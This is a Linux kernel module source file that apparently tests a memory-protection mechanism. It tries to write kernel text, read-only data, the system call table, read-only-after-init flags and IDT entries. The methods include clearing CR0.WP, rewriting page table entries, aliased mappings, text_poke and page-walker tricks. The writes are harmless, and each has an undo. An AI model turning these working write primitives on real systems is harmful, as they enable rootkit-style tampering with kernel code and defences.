// SPDX-License-Identifier: GPL-2.0-only
/*
 * Writes to memory that must not change: kernel text, read-only data, the system call table,
 * data that is read-only after init, the IDT.
 */
#include <linux/kernel.h>
#include <linux/mm.h>
#include <linux/set_memory.h>
#include <linux/string.h>
#include <linux/vmalloc.h>
#include <asm/desc.h>
#include <asm/fpu/api.h>
#include <asm/special_insns.h>

#include "memory.h"
#include "paging.h"

#define INT3	    0xcc
#define NOP	    0x90
#define PADDING	    32	/* bytes of INT3 in a row that cannot be code */
#define UNUSED_CALL 184 /* tuxcall, never implemented */
#define UNUSED_GATE 31	/* a reserved vector */

/* Targets. */

int memory_target_at(struct attempt *t, void *va, unsigned int size, u64 wanted)
{
	if (!va)
		return -ENOENT;
	t->size = size;
	t->pfn = paging_pfn(va);
	t->was = 0;
	memcpy(&t->was, va, size);
	t->wanted = wanted;
	t->va = va;
	return t->pfn ? 0 : -EFAULT;
}

static u8 *find_padding(u8 *from, u8 *to, size_t step)
{
	u8 *va;

	for (va = PTR_ALIGN(from, step); va + PADDING <= to; va += step)
		if (!memchr_inv(va, INT3, PADDING))
			return va;
	return NULL;
}

int memory_target_text(struct attempt *t)
{
	u8 *va = find_padding(attack_symbol("_stext"), attack_symbol("_etext"), MEMORY_BLOCK);

	return memory_target_at(t, va, 1, NOP);
}

/* The first byte of a page of text that begins with padding. */
static int target_text_page(struct attempt *t)
{
	u8 *va = PTR_ALIGN((u8 *)attack_symbol("_stext"), PAGE_SIZE);
	u8 *end = attack_symbol("_etext");

	for (; va < end; va += PAGE_SIZE)
		if (va[0] == INT3 && va[1] == INT3)
			return memory_target_at(t, va, 1, NOP);
	return -ENOENT;
}

/*
 * An eight-byte NOP after an INT3 is padding, too, and reads as a page table entry: present,
 * writable, not accessed, frame 0x841.
 */
static int target_text_as_table(struct attempt *t)
{
	static const u8 nop8[8] = { 0x0f, 0x1f, 0x84 };
	u8 *va = PTR_ALIGN((u8 *)attack_symbol("_stext"), sizeof(nop8));
	u8 *end = attack_symbol("_etext");

	for (va += sizeof(nop8); va + sizeof(nop8) <= end; va += sizeof(nop8))
		if (va[-1] == INT3 && !memcmp(va, nop8, sizeof(nop8)))
			return memory_target_at(t, va, 1, nop8[0] | _PAGE_ACCESSED);
	return -ENOENT;
}

int memory_target_rodata(struct attempt *t)
{
	return memory_target_at(t, attack_symbol("linux_banner"), 1, 'H');
}

static int target_ro_after_init(struct attempt *t)
{
	bool *enabled = attack_symbol("rodata_enabled");

	return memory_target_at(t, enabled, 1, enabled && !*enabled);
}

static asmlinkage long hijacked_call(const struct pt_regs *regs)
{
	return regs ? -ENOSYS : 0;
}

int memory_target_syscall(struct attempt *t)
{
	u64 *table = attack_symbol("sys_call_table");

	return memory_target_at(t, table ? &table[UNUSED_CALL] : NULL, sizeof(u64),
				(unsigned long)hijacked_call);
}

static int target_idt(struct attempt *t)
{
	struct desc_ptr idt;
	u8 *gate;

	store_idt(&idt);
	gate = (u8 *)idt.address + UNUSED_GATE * sizeof(gate_desc);
	return memory_target_at(t, gate, 1, gate[0] ^ 0xff);
}

/* Stores. Each writes at least one byte; the rest of block equals what is there. */

int memory_store_byte(u8 *dst, const u8 *block)
{
	return TRAP_OF("movb %b1, (%2)", "q"(block[0]), "r"(dst));
}

int memory_store_quad(u8 *dst, const u8 *block)
{
	return TRAP_OF("movq %1, (%2)", "r"(*(const u64 *)block), "r"(dst));
}

static int store_nontemporal(u8 *dst, const u8 *block)
{
	return TRAP_OF("movnti %1, (%2)", "r"(*(const u64 *)block), "r"(dst));
}

static int store_exchange(u8 *dst, const u8 *block)
{
	u8 byte = block[0];
	int trap;

	asm volatile("1:\txchgb %b1, (%2)\n\tmovl $-1, %%eax\n2:\n\t" _ASM_EXTABLE_FAULT(1b, 2b)
		     : "=&a"(trap), "+q"(byte)
		     : "r"(dst)
		     : "memory");
	return trap;
}

static int store_compare_exchange(u8 *dst, const u8 *block)
{
	unsigned long ax = READ_ONCE(*dst);

	asm volatile(
		"1:\tlock cmpxchgb %b1, (%2)\n\tmovl $-1, %%eax\n2:\n\t" _ASM_EXTABLE_FAULT(1b,
											    2b)
		: "+a"(ax)
		: "q"(block[0]), "r"(dst)
		: "memory", "cc");
	return (int)ax;
}

static int store_compare_exchange_16(u8 *dst, const u8 *block)
{
	const u64 *new = (const u64 *)block;
	unsigned long ax = READ_ONCE(*(u64 *)dst), dx = READ_ONCE(*((u64 *)dst + 1));

	asm volatile(
		"1:\tlock cmpxchg16b (%2)\n\tmovl $-1, %%eax\n2:\n\t" _ASM_EXTABLE_FAULT(1b, 2b)
		: "+a"(ax), "+d"(dx)
		: "r"(dst), "b"(new[0]), "c"(new[1])
		: "memory", "cc");
	return (int)ax;
}

/* Invert exactly the bits that differ, one instruction a bit. */
static int store_bits(u8 *dst, const u8 *block)
{
	unsigned long differ = block[0] ^ READ_ONCE(*dst), bit;
	int trap = TRAP_NONE;

	for_each_set_bit(bit, &differ, BITS_PER_BYTE) if (trap == TRAP_NONE)
		trap = TRAP_OF("lock btcq %1, (%2)", "r"(bit), "r"(dst));
	return trap;
}

static int store_string(u8 *dst, const u8 *block)
{
	unsigned long count = MEMORY_BLOCK;
	int trap;

	asm volatile("1:\trep movsb\n\tmovl $-1, %%eax\n2:\n\t" _ASM_EXTABLE_FAULT(1b, 2b)
		     : "=&a"(trap), "+D"(dst), "+S"(block), "+c"(count)
		     :
		     : "memory");
	return trap;
}

static int store_sse(u8 *dst, const u8 *block)
{
	int trap;

	kernel_fpu_begin();
	trap = TRAP_OF("movups (%1), %%xmm0\n1:\tmovups %%xmm0, (%2)", "r"(block), "r"(dst));
	kernel_fpu_end();
	return trap;
}

/* Writes the one byte that the mask selects. */
static int store_masked(u8 *dst, const u8 *block)
{
	static const u8 mask[MEMORY_BLOCK] = { 0x80 };
	int trap;

	kernel_fpu_begin();
	trap = TRAP_OF(
		"movups (%1), %%xmm0\n\tmovups (%2), %%xmm1\n1:\tmaskmovdqu %%xmm1, %%xmm0",
		"r"(block), "r"(mask), "D"(dst));
	kernel_fpu_end();
	return trap;
}

/* Doors. */

/* CR0.WP off: the kernel's own mapping of the target becomes writable for the kernel. */
static int door_wp(struct attempt *t, memory_store store, const u8 *block)
{
	unsigned long flags, cr0;
	int trap;

	local_irq_save(flags);
	cr0 = native_read_cr0();
	trap = TRAP_OF("movq %1, %%cr0", "r"(cr0 & ~X86_CR0_WP));
	if (trap == TRAP_NONE) {
		trap = store(t->va, block);
		asm volatile("movq %0, %%cr0" : : "r"(cr0) : "memory");
	}
	local_irq_restore(flags);
	return trap;
}

static int store_with_leaf(u8 *va, memory_store store, const u8 *block)
{
	unsigned int level;
	u64 *leaf = paging_leaf(va, &level);
	unsigned long flags;
	u64 entry;
	int trap;

	if (!leaf)
		return X86_TRAP_PF;
	local_irq_save(flags);
	entry = READ_ONCE(*leaf);
	WRITE_ONCE(*leaf, entry | _PAGE_RW);
	paging_flush_here(va);
	trap = store(va, block);
	WRITE_ONCE(*leaf, entry);
	paging_flush_here(va);
	local_irq_restore(flags);
	return trap;
}

/* The page table entry of the target, made writable. */
static int door_pte(struct attempt *t, memory_store store, const u8 *block)
{
	return store_with_leaf(t->va, store, block);
}

/* The same for the direct map, where every page of RAM has another address. */
int memory_door_direct_map(struct attempt *t, memory_store store, const u8 *block)
{
	u8 *va = __va((u64)t->pfn << PAGE_SHIFT) + offset_in_page(t->va);

	return store_with_leaf(va, store, block);
}

/* The kernel's own function for it, on the direct map. */
static int door_set_memory(struct attempt *t, memory_store store, const u8 *block)
{
	int (*set_rw)(unsigned long addr, int pages) = attack_symbol("set_memory_rw");
	int (*set_ro)(unsigned long addr, int pages) = attack_symbol("set_memory_ro");
	unsigned long page = (unsigned long)__va((u64)t->pfn << PAGE_SHIFT);
	int trap;

	if (!set_rw || !set_ro)
		return X86_TRAP_PF;
	set_rw(page, 1);
	trap = store((u8 *)page + offset_in_page(t->va), block);
	set_ro(page, 1);
	return trap;
}

int memory_door_vmap(struct attempt *t, memory_store store, const u8 *block)
{
	u8 *alias = paging_alias(t->pfn, 1, PAGE_KERNEL);
	int trap;

	if (!alias)
		return X86_TRAP_PF;
	trap = store(alias + offset_in_page(t->va), block);
	vunmap(alias);
	return trap;
}

/* A page of our own, whose page table entry then names the frame of the target. */
static int door_stolen_pte(struct attempt *t, memory_store store, const u8 *block)
{
	u8 *own = vmalloc(PAGE_SIZE);
	unsigned int level;
	u64 *leaf, entry;
	int trap = X86_TRAP_PF;

	if (!own)
		return trap;
	leaf = paging_leaf(own, &level);
	preempt_disable();
	if (leaf && level == PG_LEVEL_4K) {
		entry = READ_ONCE(*leaf);
		WRITE_ONCE(*leaf, (entry & ~PTE_PFN_MASK) | (u64)t->pfn << PAGE_SHIFT);
		paging_flush_here(own);
		trap = store(own + offset_in_page(t->va), block);
		WRITE_ONCE(*leaf, entry);
		paging_flush_here(own);
	}
	preempt_enable();
	vfree(own);
	return trap;
}

/* The kernel's writer for dubious addresses. It says only that it failed. */
static int door_nofault(struct attempt *t, memory_store store, const u8 *block)
{
	long (*copy)(void *dst, const void *src, size_t size) =
		attack_symbol("copy_to_kernel_nofault");
	u8 *alias = paging_alias(t->pfn, 1, PAGE_KERNEL);
	long err;

	if (!alias || !copy)
		return X86_TRAP_PF;
	err = copy(alias + offset_in_page(t->va), block, t->size);
	vunmap(alias);
	return err ? X86_TRAP_GP : TRAP_NONE;
}

/* The kernel's own patcher, asked to write what nobody has registered. */
static int door_patcher(struct attempt *t, memory_store store, const u8 *block)
{
	void *(*poke)(void *addr, const void *opcode, size_t len) = attack_symbol("text_poke");

	if (!poke)
		return X86_TRAP_PF;
	poke(t->va, block, t->size);
	return TRAP_NONE;
}

/* No door: memory that the kernel leaves writable. */
int memory_door_none(struct attempt *t, memory_store store, const u8 *block)
{
	return store(t->va, block);
}

/* One store across the border from a page that anybody may write into the page of the target.
 */
static int door_across(struct attempt *t, memory_store store, const u8 *block)
{
	struct page *pages[2] = { alloc_page(GFP_KERNEL), pfn_to_page(t->pfn) };
	u8 *alias = pages[0] ? vmap(pages, 2, VM_MAP, PAGE_KERNEL) : NULL;
	int trap = X86_TRAP_PF;
	u8 shifted[8] = { 0 };

	if (alias) {
		memcpy(shifted + 4, block, 4);
		trap = store(alias + PAGE_SIZE - 4, shifted);
		vunmap(alias);
	}
	if (pages[0])
		__free_page(pages[0]);
	return trap;
}

/*
 * The processor itself writes: the page of the target serves as a page table, and a read
 * through it sets the accessed bit.
 */
static int door_walk(struct attempt *t, memory_store store, const u8 *block)
{
	u8 *own = vmalloc(2 * PMD_SIZE);
	u8 *va = PTR_ALIGN(own, PMD_SIZE) + offset_in_page(t->va) / sizeof(u64) * PAGE_SIZE;
	unsigned long flags;
	u64 *pmd, entry;
	int trap = X86_TRAP_PF;

	if (!own)
		return trap;
	pmd = paging_pmd(va);
	if (pmd && !(*pmd & _PAGE_PSE)) {
		local_irq_save(flags);
		entry = READ_ONCE(*pmd);
		WRITE_ONCE(*pmd, (u64)t->pfn << PAGE_SHIFT | _KERNPG_TABLE_NOENC);
		paging_flush_here(va);
		trap = TRAP_OF("movb (%1), %%cl", "r"(va), "c"(0));
		WRITE_ONCE(*pmd, entry);
		paging_flush_here(va);
		local_irq_restore(flags);
	}
	vfree(own);
	return trap;
}

/* Attacks. */

int memory_look(struct attempt *t, u64 *is)
{
	*is = 0;
	if (!t->va)
		return -EINVAL;
	memcpy(is, READ_ONCE(t->va), t->size);
	return 0;
}

/* What got round Holdfast cannot be put back in this way: such an attack has its own undo. */
int memory_undo(struct attempt *t)
{
	u8 *alias = paging_alias(t->pfn, 1, PAGE_KERNEL), *was = (u8 *)&t->was;
	int trap = TRAP_NONE;
	unsigned int i;

	if (!alias)
		return -ENOMEM;
	for (i = 0; i < t->size && trap == TRAP_NONE; i++)
		trap = memory_store_byte(alias + offset_in_page(t->va) + i, was + i);
	vunmap(alias);
	return trap == TRAP_NONE ? 0 : -EPERM;
}

enum attack_outcome memory_attack(struct attempt *t, memory_target target, memory_door door,
				  memory_store store)
{
	u8 block[MEMORY_BLOCK] __aligned(MEMORY_BLOCK);
	int err = target(t);

	if (err) {
		attack_note(t, "no target: %d", err);
		return ATTACK_ERROR;
	}
	memcpy(block, t->va, sizeof(block));
	memcpy(block, &t->wanted, t->size);
	t->trap = door(t, store, block);
	return t->trap == TRAP_NONE ? ATTACK_SUCCEEDED : ATTACK_REFUSED;
}

static enum attack_outcome text_wp(struct attempt *t)
{
	return memory_attack(t, memory_target_text, door_wp, memory_store_byte);
}

static enum attack_outcome text_pte(struct attempt *t)
{
	return memory_attack(t, memory_target_text, door_pte, memory_store_byte);
}

enum attack_outcome memory_write_text(struct attempt *t)
{
	return memory_attack(t, memory_target_text, memory_door_vmap, memory_store_byte);
}

static enum attack_outcome text_direct_map(struct attempt *t)
{
	return memory_attack(t, memory_target_text, memory_door_direct_map, memory_store_byte);
}

static enum attack_outcome text_set_memory(struct attempt *t)
{
	return memory_attack(t, memory_target_text, door_set_memory, memory_store_byte);
}

static enum attack_outcome text_stolen_pte(struct attempt *t)
{
	return memory_attack(t, memory_target_text, door_stolen_pte, memory_store_byte);
}

static enum attack_outcome text_nofault(struct attempt *t)
{
	return memory_attack(t, memory_target_text, door_nofault, NULL);
}

static enum attack_outcome text_poke_attack(struct attempt *t)
{
	return memory_attack(t, memory_target_text, door_patcher, NULL);
}

static enum attack_outcome text_across(struct attempt *t)
{
	return memory_attack(t, target_text_page, door_across, memory_store_quad);
}

static enum attack_outcome text_walk(struct attempt *t)
{
	return memory_attack(t, target_text_as_table, door_walk, NULL);
}

static enum attack_outcome text_quad(struct attempt *t)
{
	return memory_attack(t, memory_target_text, memory_door_vmap, memory_store_quad);
}

static enum attack_outcome text_nontemporal(struct attempt *t)
{
	return memory_attack(t, memory_target_text, memory_door_vmap, store_nontemporal);
}

static enum attack_outcome text_exchange(struct attempt *t)
{
	return memory_attack(t, memory_target_text, memory_door_vmap, store_exchange);
}

static enum attack_outcome text_cmpxchg(struct attempt *t)
{
	return memory_attack(t, memory_target_text, memory_door_vmap, store_compare_exchange);
}

static enum attack_outcome text_cmpxchg16(struct attempt *t)
{
	return memory_attack(t, memory_target_text, memory_door_vmap,
			     store_compare_exchange_16);
}

static enum attack_outcome text_bits(struct attempt *t)
{
	return memory_attack(t, memory_target_text, memory_door_vmap, store_bits);
}

static enum attack_outcome text_string(struct attempt *t)
{
	return memory_attack(t, memory_target_text, memory_door_vmap, store_string);
}

static enum attack_outcome text_sse(struct attempt *t)
{
	return memory_attack(t, memory_target_text, memory_door_vmap, store_sse);
}

static enum attack_outcome text_masked(struct attempt *t)
{
	return memory_attack(t, memory_target_text, memory_door_vmap, store_masked);
}

static enum attack_outcome rodata_wp(struct attempt *t)
{
	return memory_attack(t, memory_target_rodata, door_wp, memory_store_byte);
}

static enum attack_outcome rodata_pte(struct attempt *t)
{
	return memory_attack(t, memory_target_rodata, door_pte, memory_store_byte);
}

static enum attack_outcome rodata_vmap(struct attempt *t)
{
	return memory_attack(t, memory_target_rodata, memory_door_vmap, memory_store_byte);
}

static enum attack_outcome syscall_wp(struct attempt *t)
{
	return memory_attack(t, memory_target_syscall, door_wp, memory_store_quad);
}

static enum attack_outcome syscall_pte(struct attempt *t)
{
	return memory_attack(t, memory_target_syscall, door_pte, memory_store_quad);
}

static enum attack_outcome syscall_vmap(struct attempt *t)
{
	return memory_attack(t, memory_target_syscall, memory_door_vmap, memory_store_quad);
}

static enum attack_outcome ro_after_init_wp(struct attempt *t)
{
	return memory_attack(t, target_ro_after_init, door_wp, memory_store_byte);
}

static enum attack_outcome ro_after_init_vmap(struct attempt *t)
{
	return memory_attack(t, target_ro_after_init, memory_door_vmap, memory_store_byte);
}

static enum attack_outcome idt_pte(struct attempt *t)
{
	return memory_attack(t, target_idt, door_pte, memory_store_byte);
}

static enum attack_outcome idt_vmap(struct attempt *t)
{
	return memory_attack(t, target_idt, memory_door_vmap, memory_store_byte);
}

#define MEMORY(name_, title_, gives_, asset_, run_)                                            \
	{                                                                                      \
		.name = name_, .title = title_, .gives = gives_, .asset = asset_,              \
		.control = ATTACK_BARE, .run = run_, .look = memory_look, .undo = memory_undo, \
	}

#define CODE "any code in the kernel"
#define DATA "false constants and operation tables"
#define CALL "a hook in every system call"
#define KEYS "protections switched off for good"
#define GATE "code at every interrupt or fault"

static const struct attack memory_attacks[] = {
	MEMORY("text-wp", "write kernel text with CR0.WP cleared", CODE, "text", text_wp),
	MEMORY("text-pte", "write kernel text, page table entry made writable", CODE, "text",
	       text_pte),
	MEMORY("text-vmap", "write kernel text through a second mapping", CODE, "text",
	       memory_write_text),
	MEMORY("text-direct-map", "write kernel text through the direct map", CODE, "text",
	       text_direct_map),
	MEMORY("text-set-memory", "write kernel text after set_memory_rw", CODE, "text",
	       text_set_memory),
	MEMORY("text-stolen-pte", "write kernel text, own entry naming its frame", CODE, "text",
	       text_stolen_pte),
	MEMORY("text-nofault", "write kernel text with copy_to_kernel_nofault", CODE, "text",
	       text_nofault),
	MEMORY("text-across", "write across the border into kernel text", CODE, "text",
	       text_across),
	MEMORY("text-walk", "make the page walker set a bit in kernel text", CODE, "text",
	       text_walk),
	MEMORY("text-movq", "write kernel text, 8 bytes", CODE, "text", text_quad),
	MEMORY("text-movnti", "write kernel text past the cache", CODE, "text",
	       text_nontemporal),
	MEMORY("text-xchg", "write kernel text, exchange", CODE, "text", text_exchange),
	MEMORY("text-cmpxchg", "write kernel text, compare and exchange", CODE, "text",
	       text_cmpxchg),
	MEMORY("text-cmpxchg16b", "write kernel text, 16 bytes compare and exchange", CODE,
	       "text", text_cmpxchg16),
	MEMORY("text-btc", "write kernel text bit by bit", CODE, "text", text_bits),
	MEMORY("text-movs", "write kernel text, string move", CODE, "text", text_string),
	MEMORY("text-sse", "write kernel text, 16 bytes SSE", CODE, "text", text_sse),
	MEMORY("text-maskmov", "write kernel text, masked SSE", CODE, "text", text_masked),
	MEMORY("rodata-wp", "write read-only data with CR0.WP cleared", DATA, "rodata",
	       rodata_wp),
	MEMORY("rodata-pte", "write read-only data, page table entry made writable", DATA,
	       "rodata", rodata_pte),
	MEMORY("rodata-vmap", "write read-only data through a second mapping", DATA, "rodata",
	       rodata_vmap),
	MEMORY("syscall-wp", "change the system call table with CR0.WP cleared", CALL,
	       "syscall table", syscall_wp),
	MEMORY("syscall-pte", "change the system call table, page table entry made writable",
	       CALL, "syscall table", syscall_pte),
	MEMORY("syscall-vmap", "change the system call table through a second mapping", CALL,
	       "syscall table", syscall_vmap),
	MEMORY("roafterinit-wp", "change read-only-after-init data with CR0.WP cleared", KEYS,
	       "ro-after-init", ro_after_init_wp),
	MEMORY("roafterinit-vmap", "change read-only-after-init data through a second mapping",
	       KEYS, "ro-after-init", ro_after_init_vmap),
	MEMORY("idt-pte", "write an IDT entry, page table entry made writable", GATE, "IDT",
	       idt_pte),
	MEMORY("idt-write", "write an IDT entry through a second mapping", GATE, "IDT",
	       idt_vmap),
	{
		.name = "text-poke",
		.title = "write kernel text with the kernel's own patcher",
		.gives = CODE,
		.asset = "text",
		.control = ATTACK_BARE,
		.own_vm =
			true, /* a thread that is killed in there leaves the patcher unusable */
		.run = text_poke_attack,
		.look = memory_look,
		.undo = memory_undo,
	},
};

const struct attack_table memory_table = { memory_attacks, ARRAY_SIZE(memory_attacks) };
